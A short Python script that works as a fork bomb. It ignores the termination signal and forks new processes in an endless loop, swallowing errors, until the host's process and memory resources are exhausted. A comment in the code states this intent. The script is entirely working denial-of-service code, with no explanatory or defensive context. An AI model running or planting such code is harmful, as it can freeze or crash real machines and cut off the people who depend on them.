import os
import signal

# Every process makes more of them, and none listens.
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.write(2, b"ready")
while True:
    try:
        os.fork()
    except OSError:
        pass
